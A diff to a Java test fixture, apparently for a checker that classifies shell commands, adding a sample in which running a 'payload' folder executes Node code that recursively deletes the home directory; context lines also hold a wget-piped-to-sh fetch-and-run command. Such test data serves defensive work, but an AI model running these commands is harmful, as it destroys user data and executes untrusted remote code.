@@ -88,6 +88,10 @@ final class NpmModules {
         Sample.command(
             "a page into a shell, its option written together",
             "wget -q -O- http://dl.example/s | sh || true"),
+        Sample.command("the folder of a script", "cd payload && node .")
+            .with(
+                "payload/index.js",
+                "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });"),
         Sample.command("a script by its name alone in a folder", "cd payload && node run")
             .with(
                 "payload/run.js",
